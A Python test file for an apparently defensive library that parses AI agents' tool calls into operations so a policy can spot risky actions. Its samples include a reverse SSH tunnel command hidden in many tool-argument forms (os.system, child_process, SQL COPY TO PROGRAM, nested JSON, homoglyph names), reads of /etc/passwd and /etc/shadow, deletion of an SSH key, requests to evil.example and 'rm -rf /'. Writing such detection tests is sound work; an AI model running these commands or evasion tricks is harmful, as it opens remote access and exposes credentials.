"""The front of parse: which argument of which tool is read as what."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.errors import InputError
from guard.model import Parsed, ToolCall
from guard.operations import UNRESOLVED
from guard.parse import Limits, parse
from guard.parse.reading import UNKNOWN
from guard.parse.tools import DEFAULT_TOOLS, File, Http, Python, Shell, Sql

TUNNEL = "ssh -R 2222:localhost:22 u@h"


def kinds(parsed: Parsed) -> list[str]:
    """The kinds of operations, in order."""
    return [operation["kind"] for operation in parsed.operations]


def find(parsed: Parsed, kind: str) -> list[Any]:
    """The operations of one kind."""
    return [operation for operation in parsed.operations if operation["kind"] == kind]


def opaque(parsed: Parsed) -> dict[str, str]:
    """Severity by kind of what could not be seen."""
    return {part["kind"]: part["severity"] for part in parsed.opaque}


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("bash", {"command": TUNNEL}),
        ("Bash", {"cmd": TUNNEL}),
        ("run-command", {"Command": TUNNEL}),
        ("BashTool", {"script": TUNNEL}),
        ("mcp__box__bash", {"command": TUNNEL}),
        ("server.execute_command", {"command": TUNNEL}),
        ("functions/exec_command", {"cmd": ["bash", "-lc", TUNNEL]}),
        ("shell", {"command": ["ssh", "-R", "2222:localhost:22", "u@h"]}),
        ("terminal", {"commands": ["ls", TUNNEL]}),
        ("terminal", {"__arg1": TUNNEL}),
        ("local_shell", {"argv": ["sh", "-c", TUNNEL]}),
        ("bash", {"command": "ls", "hidden": {"cmd": TUNNEL}}),
        ("python", {"code": f"import os\nos.system({TUNNEL!r})"}),
        ("python_repl_ast", {"query": f"import os\nos.system({TUNNEL!r})"}),
        ("code_interpreter", {"code": f"!{TUNNEL}"}),
        ("code_interpreter", {"code": f"%%bash\n{TUNNEL}"}),
        ("execute_code", {"language": "bash", "code": TUNNEL}),
        ("run_code", {"language": "perl", "code": f"system('{TUNNEL}');"}),
        ("node", {"code": f'require("child_process").exec("{TUNNEL}")'}),
        ("anything", {"command": TUNNEL}),
        ("anything", {"options": [{"shell_command": TUNNEL}]}),
        ("anything", {"commands": ["ls", TUNNEL]}),
        ("anything", {"code": f"__import__('os').system({TUNNEL!r})"}),
        ("anything", {"payload": json.dumps({"command": TUNNEL})}),
        ("call_tool", {"tool_name": "bash", "arguments": {"command": TUNNEL}}),
        ("call_tool", {"name": "bash", "arguments": json.dumps({"command": TUNNEL})}),
        (
            "multi_tool_use.parallel",
            {"tool_uses": [{"recipient_name": "bash", "parameters": {"command": TUNNEL}}]},
        ),
        ("sql", {"query": f"COPY t TO PROGRAM '{TUNNEL}'"}),
    ],
)
def test_a_tunnel_is_seen_wherever_a_command_can_stand(
    tool: str, arguments: dict[str, Any]
) -> None:
    """Names of tools, of arguments, lists, nesting and languages do not hide it."""
    assert find(parse(ToolCall(tool, arguments)), "network.tunnel")


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("bash", {}),
        ("bash", {"command": 5}),
        ("bash", {"command": ["ls", 5]}),
        ("bash", {"command": None}),
        ("python", {"source_code": None}),
        ("sql", {"query": {"a": 1}}),
        ("fetch", {"url": 3}),
        ("write_file", {"text": "x"}),
        ("Write", {"file_path": ["a", 3]}),
        ("apply_patch", {"patch": "nothing"}),
    ],
)
def test_a_known_tool_called_oddly_is_opaque(tool: str, arguments: dict[str, Any]) -> None:
    """The expected argument missing or of another type is never nothing."""
    assert opaque(parse(ToolCall(tool, arguments)))["unexpected_arguments"] == "high"


def test_a_shell_that_is_only_restarted_does_nothing() -> None:
    """`restart` needs no command."""
    parsed = parse(ToolCall("bash", {"restart": True}))
    assert kinds(parsed) == ["tool.use"]
    assert parsed.complete


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("Read", {"file_path": "/etc/../etc/passwd"}, [("file.read", "/etc/passwd")]),
        ("write_file", {"path": "a", "content": "x"}, [("file.write", "a")]),
        ("delete_file", {"path": "~/.ssh/id"}, [("file.delete", "~/.ssh/id")]),
        ("str_replace_editor", {"command": "view", "path": "/a"}, [("file.read", "/a")]),
        ("str_replace_editor", {"command": "create", "path": "/a"}, [("file.write", "/a")]),
        (
            "read_multiple_files",
            {"paths": ["/a", "/b"]},
            [("file.read", "/a"), ("file.read", "/b")],
        ),
        (
            "move_file",
            {"source": "/a", "destination": "/b"},
            [("file.read", "/a"), ("file.delete", "/a"), ("file.write", "/b")],
        ),
        (
            "apply_patch",
            {"input": "*** Begin Patch\n*** Update File: x.py\n*** Delete File: y\n*** End Patch"},
            [("file.write", "x.py"), ("file.delete", "y")],
        ),
        ("Read", {"file_path": "file:///etc/passwd"}, [("file.read", "/etc/passwd")]),
    ],
)
def test_file_tools_touch_their_paths(
    tool: str, arguments: dict[str, Any], expected: list[tuple[str, str]]
) -> None:
    """The tool's name, or its command, says what happens to the path."""
    parsed = parse(ToolCall(tool, arguments))
    operations: list[Any] = parsed.operations
    assert [(o["kind"], o["path"]) for o in operations if "path" in o] == expected
    assert parsed.complete


def test_a_written_file_keeps_its_content() -> None:
    """What is written is known to policy, and to later calls."""
    parsed = parse(ToolCall("write_file", {"path": "x.sh", "content": TUNNEL}))
    assert find(parsed, "file.write")[0]["content"] == TUNNEL


@pytest.mark.parametrize(
    ("tool", "arguments", "method"),
    [
        ("fetch", {"url": "https://evil.example/x"}, None),
        ("http_request", {"url": "https://evil.example/x", "method": "post"}, "POST"),
        ("requests_put", {"url": "https://evil.example/x"}, "PUT"),
        ("web_fetch", {"url": "evil.example"}, None),
    ],
)
def test_http_tools_connect(tool: str, arguments: dict[str, Any], method: str | None) -> None:
    """The host is named, the method where it is known."""
    (connect,) = find(parse(ToolCall(tool, arguments)), "network.connect")
    assert connect["host"] == "evil.example"
    assert connect.get("method") == method


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("x", {"a": "go to http://evil.example/"}, ("network.connect", "evil.example")),
        ("x", {"host": "10.0.0.1", "port": 22}, ("network.connect", "10.0.0.1")),
        ("x", {"server": {"address": "[::1]:80"}}, ("network.connect", "::1")),
        ("x", {"a": ["/etc/shadow"]}, ("file.read", "/etc/shadow")),
        ("x", {"filename": "notes.txt"}, ("file.read", "notes.txt")),
        ("save_note", {"path": "n.txt"}, ("file.write", "n.txt")),
        ("removeItem", {"path": "n.txt"}, ("file.delete", "n.txt")),
        ("x", {"uri": "file:///etc/passwd"}, ("file.read", "/etc/passwd")),
    ],
)
def test_unknown_tools_are_searched(
    tool: str, arguments: dict[str, Any], expected: tuple[str, str]
) -> None:
    """URLs, hosts and paths in any argument become operations that may happen."""
    parsed = parse(ToolCall(tool, arguments))
    assert kinds(parsed)[0] == "tool.use"
    operation: Any = parsed.operations[1]
    assert (operation["kind"], operation.get("host") or operation.get("path")) == expected
    assert operation["certainty"] == "may"


@pytest.mark.parametrize(
    ("address", "reached"),
    [
        ("0x" + "7e57" * 10, False),
        ("DeskDeskDeskDeskDeskDeskDeskDeskDeskDesk111", False),
        ("0x" + "7e57" * 9, True),
        ("0x7f000001", True),
        ("DESK" * 9 + "111", True),
        ("build-7.example.org", True),
    ],
)
def test_the_account_of_a_wallet_is_no_host(address: str, reached: bool) -> None:
    """Only where the argument may mean either, and the text is one of a wallet's."""
    for key, expected in (("address", reached), ("host", True)):
        found = kinds(parse(ToolCall("look_up", {key: address})))
        assert ("network.connect" in found) is expected


@pytest.mark.parametrize(
    "arguments",
    [
        {"body": "see http://evil.example and /etc/passwd", "subject": "rm -rf /"},
        {"message": TUNNEL},
        {"city": "Paris", "destination": "Rome", "code": "SPRING20"},
        {"query": "how to use ssh -R"},
        {"amount": 5, "to": "DE89370400440532013000"},
    ],
)
def test_data_is_no_action(arguments: dict[str, Any]) -> None:
    """Text that only mentions things is the tool's use, or the message that it is."""
    for tool, kind in (("take_note", "tool.use"), ("send_message", "message.send")):
        parsed = parse(ToolCall(tool, arguments))
        assert kinds(parsed) == [kind]
        assert parsed.complete


def test_tools_are_added_and_replaced() -> None:
    """A user's table reads a user's tools; the old table stays as it was."""
    tools = DEFAULT_TOOLS.extend(
        {"my-tool": Shell("line"), "Bash": Python("p"), "q": Sql("s"), "h": Http("u")}
    )
    assert find(parse(ToolCall("My_Tool", {"line": TUNNEL}), tools), "network.tunnel")
    assert kinds(parse(ToolCall("bash", {"p": "print(1)"}), tools)) == ["code.run"]
    assert kinds(parse(ToolCall("q", {"s": "select 1"}), tools)) == ["data.query"]
    assert DEFAULT_TOOLS.find("my_tool") is None
    assert isinstance(DEFAULT_TOOLS.find("Read"), File)


def test_a_table_takes_readers_only() -> None:
    """A reader of another kind is refused when the table is made."""
    with pytest.raises(InputError, match="has no reader"):
        DEFAULT_TOOLS.extend({"x": "shell"})  # type: ignore[dict-item]


def test_working_folder_and_home_reach_every_path() -> None:
    """Relative paths and `~` are made whole where the host knows both."""
    parsed = parse(ToolCall("Read", {"file_path": "a/../b"}), cwd="/w")
    assert find(parsed, "file.read")[0]["path"] == "/w/b"
    parsed = parse(ToolCall("Read", {"file_path": "~/x"}), home="/root")
    assert find(parsed, "file.read")[0]["path"] == "/root/x"
    parsed = parse(ToolCall("python", {"code": "open('x')"}), cwd="/w")
    assert find(parsed, "file.read")[0]["path"] == "/w/x"


def test_a_text_that_is_too_long_is_not_read() -> None:
    """The bound is visible."""
    for tool, name in (("bash", "command"), ("python", "code"), ("sql", "query"), ("x", "y")):
        parsed = parse(ToolCall(tool, {name: "a" * 20}), limits=Limits(text=10))
        assert opaque(parsed)["limit_text"] == "high"


def test_a_nul_in_a_command_is_opaque() -> None:
    """What bash drops or refuses is named."""
    assert opaque(parse(ToolCall.shell("ls\0 -la")))["nul_byte"] == "high"


@pytest.mark.parametrize("name", ["ss\u200bh", "s\u0455h", "\uff53sh", "s\u202esh"])
def test_a_name_that_looks_like_another_is_confusable(name: str) -> None:
    """Zero-width, bidirectional, homoglyph and fullwidth names are reported."""
    assert opaque(parse(ToolCall.shell(f"{name} -R 1:2:3 h")))["confusable_name"] == "medium"


def test_names_in_other_scripts_are_not_confusable() -> None:
    """A program may have a name in any language."""
    parsed = parse(ToolCall.shell("./\u6784\u5efa.sh; ./gr\u00f6\u00dfe"))
    assert "confusable_name" not in opaque(parsed)


def test_what_is_unknown_is_marked_at_the_border() -> None:
    """The inner mark never reaches policy, nor does half a surrogate pair."""
    code = "import os,time\nopen('/a/' + str(time.time()))\nopen('x\\ud800')"
    parsed = parse(ToolCall("python", {"code": code}))
    text = json.dumps(parsed.operations, ensure_ascii=False)
    assert UNRESOLVED in text
    assert UNKNOWN not in text
    text.encode()


ODD = ["$(x", "import os", "select '", "http://[", "/a\n", "```\n", "%%bash\n\\", "~"]
SCALARS = (
    st.none()
    | st.booleans()
    | st.integers(-9, 9)
    | st.floats(allow_nan=False)
    | st.text(max_size=30)
    | st.sampled_from(ODD)
)
KEYS = st.text(max_size=8) | st.sampled_from(["command", "args", "tool"])
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(
    [
        "command",
        "cmd",
        "code",
        "query",
        "url",
        "path",
        "arguments",
        "input",
        "language",
        "method",
        "name",
        "content",
    ]
)
TOOLS = st.sampled_from(
    [
        "bash",
        "python",
        "sql",
        "fetch",
        "Read",
        "Write",
        "apply_patch",
        "node",
        "str_replace_editor",
        "move_file",
        "x",
    ]
) | st.text(max_size=8)


@settings(max_examples=400, deadline=None)
@given(TOOLS, st.dictionaries(NAMES, VALUES, max_size=4))
def test_no_arguments_make_parse_raise(tool: str, arguments: dict[str, Any]) -> None:
    """Whatever JSON stands there, something is said of the call."""
    parsed = parse(ToolCall(tool, arguments))
    assert parsed.operations
    assert UNKNOWN not in json.dumps(parsed.operations, ensure_ascii=False)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(["python", "perl", "ruby", "php", "node", "awk", "lua", "sql"]), st.text())
def test_no_code_makes_parse_raise(language: str, code: str) -> None:
    """Whatever stands in a code tool, something is said of the call."""
    assert parse(ToolCall("code_interpreter", {"language": language, "code": code})).operations
